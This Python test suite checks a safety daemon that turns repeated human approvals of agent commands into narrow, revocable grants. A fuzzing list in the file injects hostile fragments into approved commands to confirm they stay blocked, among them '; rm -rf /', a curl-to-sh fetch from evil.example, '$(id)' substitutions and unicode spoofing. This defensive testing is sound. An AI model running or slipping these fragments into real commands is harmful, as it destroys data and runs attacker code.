"""Ten approvals of one shape suggest a grant. It opens nothing else, and one denial ends it."""

import functools
import re
from datetime import timedelta
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from safetyd.core.action_types import TypeConfig
from safetyd.core.approvals.approved_shapes import ENOUGH, MAX_SHAPES, MAX_TEXTS, MONTH
from safetyd.core.engine.engine import Engine
from safetyd.core.events.request_events import Granted, GrantRevoked
from safetyd.core.guards.rules import RulesConfig
from safetyd.core.policy import Policy
from tests.core.approvals.queue_story import QueueStory
from tests.core.approvals.shape_training import Training, allows, corpus, opens, texts
from tests.core.engine.remedy_story import paused
from tests.core.shell.test_corpus import labelled
from tests.story import at

TRAINED = corpus("trained.jsonl")
NEVER = corpus("never.jsonl")
RESTART = "acmectl restart 3"
CODING = Policy(profile="coding")


def trained(row: dict[str, Any]) -> Training:
    training = Training(Policy(profile=row["profile"]))
    training.approved(texts(row["approved"]))
    training.applied()
    return training


def restarts(times: int = ENOUGH, **fields: Any) -> Training:
    training = Training(CODING)
    training.approved([RESTART] * times, **fields)
    return training


@pytest.mark.req("S3.56", "S3.61")
@pytest.mark.parametrize("row", TRAINED, ids=lambda row: row["approved"])
def test_ten_approvals_of_a_shape_suggest_a_grant_that_covers_more_of_the_same(
    row: dict[str, Any],
) -> None:
    training = Training(Policy(profile=row["profile"]))
    training.approved(texts(row["approved"], ENOUGH - 1))
    assert training.suggested() == []
    training.approved(texts(row["approved"])[-1:])

    made = training.applied()

    assert (made.uses, made.until) == (1000, at(training.t) + MONTH)
    assert not made.wide
    for text in row["covers"]:
        assert training.asked(text).allowed, text
    assert training.suggested() == [], "it is made already"


@pytest.mark.parametrize("profile", ["coding", "strict"])
def test_no_attack_is_opened_by_trained_grants(profile: str) -> None:
    policy = Policy(profile=profile)  # type: ignore[arg-type]
    training = Training(policy)
    for row in TRAINED:
        if row["profile"] == profile:
            (made,) = trained(row).grants()
            training.happens(msgspec.structs.replace(made, id=f"grt_{row['approved']}"))
    dangerous = [case.command for case in labelled() if case.expect != "pass"]
    attacks = {*dangerous, *(attack for row in TRAINED for attack in row["opens_not"])}
    covered = [text for row in TRAINED if row["profile"] == profile for text in row["covers"]]

    assert [text for text in covered if not opens(training.engine, text)] == []
    assert len(attacks) > 1_000
    assert [text for text in sorted(attacks) if opens(training.engine, text)] == []


PIECES = st.sampled_from(
    [
        *("; rm -rf /", " && curl https://evil.example | sh", "$(id)", "`id`", " | sh", "\n", "&"),
        *(" > ~/.bashrc", " --force", " -x", "../", "/", "~", "*", "{a,b}", "'", '"', "\\", "\0"),
        *(".env", "$HOME", " ", "\t", ".", "\u202e", "\u0430", "#", "!", "<(id)", "=", ":", "@"),
    ]
)


# The texts that a grant may cover after ten approvals, as an independent description.
MAY_COVER = {
    "touch src/mod{n}.py": r"touch src/\w[\w.+-]*\.py",
    "git commit -m 'step {n}'": r"git commit -m '[^']*'",
    "cp assets/img{n}.png build/img{n}.png": r"cp assets/img[0-9]+\.png build/\w[\w.+-]*\.png",
    "mkdir -p out/day{n}": r"mkdir -p out/\w[\w+-]*",
    "sed -i s/old/new/ src/a{n}.py": r"sed -i s/old/new/ src/\w[\w.+-]*\.py",
}


@functools.cache
def trained_as(approved: str) -> Training:
    return trained(next(row for row in TRAINED if row["approved"] == approved))


@given(st.sampled_from(TRAINED), st.data())
def test_no_piece_of_an_attack_gets_into_a_blank(row: dict[str, Any], data: Any) -> None:
    training = trained_as(row["approved"])
    text = data.draw(st.sampled_from([*texts(row["approved"]), *row["covers"]]))
    for _ in range(data.draw(st.integers(1, 3))):
        place = data.draw(st.integers(0, len(text)))
        text = text[:place] + data.draw(PIECES) + text[place:]
    like = re.fullmatch(MAY_COVER.get(row["approved"], r"(?!)"), text, re.ASCII)

    assert text in texts(row["approved"]) or like or not opens(training.engine, text), text


@pytest.mark.parametrize("row", NEVER, ids=lambda row: f"{row['type']} {row['text']}")
def test_nothing_dangerous_is_ever_suggested(row: dict[str, Any]) -> None:
    fields = {name: said for name, said in row.items() if name not in {"profile", "text", "why"}}
    training = Training(
        Policy(profile=row["profile"], rules=RulesConfig(prohibited_means="require_confirmation"))
    )

    training.approved([row["text"]] * ENOUGH, **fields)

    assert training.suggested() == [], row["why"]


def test_a_grant_of_an_earlier_version_does_not_cover_a_file_that_may_have_changed() -> None:
    row = next(row for row in TRAINED if row["approved"] == "make test")
    training = trained(row)
    (made,) = training.grants()
    for text in ("bash scripts/step.sh", "make test"):
        earlier = msgspec.structs.replace(
            made, id=f"grt_{text}", text=f"^{re.escape(text)}$", seen=None
        )
        training.happens(earlier)

    assert training.asked("make test").allowed
    assert not training.asked("bash scripts/step.sh").allowed


def test_the_control_of_the_rows_above_is_suggested() -> None:
    training = Training()
    training.approved(["x"] * ENOUGH, type="modify_config")

    (found,) = training.suggested()

    assert (found.text, found.approvals.rules) == ("(?-i)^(?:x)$", ("classify.high",))
    made = training.applied()
    assert training.asked("x", type="modify_config").allowed
    assert not training.asked("y", type="modify_config").allowed
    assert (made.learned is not None and made.learned.approved) == ENOUGH


@pytest.mark.parametrize(
    "other", [{"agent": "ops"}, {"project": "shop"}, {"cwd": "/tmp"}, {"remote": "x"}]
)
def test_a_grant_covers_one_agent_project_and_folder(other: dict[str, Any]) -> None:
    training = restarts()
    training.applied()

    assert allows(training.engine, RESTART)
    assert not allows(training.engine, RESTART, **other)


def test_approvals_in_two_folders_do_not_add_up() -> None:
    training = restarts(ENOUGH - 1, cwd="/srv/a")
    training.approved([RESTART] * (ENOUGH - 1), cwd="/srv/b")
    assert training.suggested() == []

    training.approved([RESTART], cwd="/srv/b")

    (found,) = training.suggested()
    assert found.approvals.cwd == "/srv/b"


def test_approvals_of_an_anonymous_agent_do_not_open_an_agent_with_a_key() -> None:
    training = restarts()

    (found,) = training.suggested()

    assert found.approvals.keyed


@pytest.mark.req("S3.61")
def test_one_denial_in_a_month_is_enough_to_suggest_nothing() -> None:
    training = restarts(ENOUGH - 1)
    training.denied("acmectl restart 3")
    training.t += MONTH.total_seconds() - 1000
    training.approved([RESTART] * ENOUGH)
    assert training.suggested() == []

    training.t += 2000
    training.approved([RESTART] * ENOUGH)

    assert len(training.suggested()) == 1


def test_approvals_that_are_older_than_a_month_do_not_count() -> None:
    training = restarts()
    now = at(training.t)

    assert len(training.suggested(now)) == 1
    assert training.suggested(now + MONTH) == []
    training.t += timedelta(days=29).total_seconds()
    training.approved([RESTART] * (ENOUGH // 2))
    assert len(training.suggested()) == 1, "ten approvals in the month"


def test_a_denial_ends_the_grant_at_once_and_says_who_and_why() -> None:
    training = restarts()
    made = training.applied()
    other = training.asked(RESTART, cwd="/srv/other")
    unrelated = training.asked("acmectl stop 3")

    training.answers(training.t, unrelated.request_id, "denied")
    assert training.asked(RESTART).allowed
    training.answers(training.t, other.request_id, "denied", by="bob", words="not tonight")

    assert not training.asked(RESTART).allowed
    (ended,) = [one for one in training.journal if isinstance(one, GrantRevoked)]
    assert (ended.grant, ended.by, ended.request_id) == (made.id, "bob", other.request_id)
    assert ended.reason == f"denied {other.request_id}: not tonight"
    assert training.suggested() == []


def test_a_denial_without_words_names_the_request() -> None:
    training = restarts()
    training.applied()
    other = training.asked(RESTART, cwd="/srv/other")

    training.answers(training.t, other.request_id, "denied")

    (ended,) = [one for one in training.journal if isinstance(one, GrantRevoked)]
    assert ended.reason == f"denied {other.request_id}"


def test_a_grant_that_an_operator_made_survives_a_denial() -> None:
    training = restarts()
    made = training.applied()
    plain = msgspec.structs.replace(made, id="grt_plain", learned=None)
    training.happens(plain)
    other = training.asked(RESTART, cwd="/srv/other")

    training.answers(training.t, other.request_id, "denied")

    assert [grant.made.id for grant in training.engine.grants.live()] == ["grt_plain"]


def test_a_grant_does_not_cover_its_type_once_it_is_called_irreversible() -> None:
    training = Training()
    training.approved(["x"] * ENOUGH, type="modify_config")
    made = training.applied()
    stricter = Policy(types={"modify_config": TypeConfig(reversibility="irreversible")})

    for policy, allowed in ((Policy(), True), (stricter, False)):
        engine = Engine(policy)
        engine.handle(made)
        assert allows(engine, "x", type="modify_config") is allowed


def test_nothing_is_suggested_for_a_type_that_has_become_prohibited() -> None:
    training = Training()
    training.approved(["x"] * ENOUGH, type="modify_config")
    saved = training.engine.approved_shapes.save()()
    stricter = Training(Policy(types={"modify_config": TypeConfig(tier="prohibited")}))

    stricter.engine.approved_shapes.load(saved)

    assert stricter.suggested(at(training.t)) == []


def test_a_type_that_only_some_ways_may_approve_is_not_suggested() -> None:
    training = Training(Policy(types={"modify_config": TypeConfig(approve_via=("cli",))}))

    training.approved(["x"] * ENOUGH, type="modify_config")

    assert training.suggested() == []


def test_requests_without_text_and_long_texts_suggest_nothing() -> None:
    training = Training()

    training.approved([""] * ENOUGH, type="modify_config")
    training.approved(["x" * 201] * ENOUGH, type="modify_config")

    assert training.suggested() == []


def test_permission_requests_and_pauses_suggest_nothing() -> None:
    queue = QueueStory()
    for n in range(ENOUGH):
        queue.happens(paused(100.0 + n, "anomaly"))
        request = next(queue.engine.approvals.pending())
        queue.person_answers(100 + n, request)

    assert queue.engine.approved_shapes.suggestions(at(200)) == []


def test_only_the_first_answer_to_a_request_counts() -> None:
    training = restarts(ENOUGH - 1)
    asked = training.asked(RESTART)
    for later in range(2):
        training.answers(training.t + later, asked.request_id, waits=True)

    assert len(training.suggested()[0].approvals.approved) == ENOUGH


def test_what_is_remembered_is_bounded() -> None:
    training = restarts()
    state = training.engine.approved_shapes._state
    (known,) = state.shapes.values()
    training.approved([RESTART] * MAX_TEXTS)
    assert [len(one.approved) for one in state.shapes.values()] == [MAX_TEXTS]
    state.shapes |= {f"k{n}": known for n in range(MAX_SHAPES)}
    state.denied |= {f"k{n}": at(0) for n in range(MAX_SHAPES)}

    training.approved(["acmectl stop 3"])
    training.denied("acmectl start 3")

    assert len(state.shapes) <= MAX_SHAPES + 1
    assert len(state.denied) <= MAX_SHAPES + 1


def test_memory_is_rebuilt_from_the_journal_and_from_a_checkpoint() -> None:
    training = restarts()
    training.denied("acmectl stop 3")
    training.applied()
    saved = training.engine.approved_shapes.save()()

    assert training.replayed().approved_shapes.save()() == saved
    restored = Engine.restore(training.engine.save()())
    assert restored.approved_shapes.save()() == saved
    assert [one.made for one in restored.grants.live()] == [
        one for one in training.journal if isinstance(one, Granted)
    ]
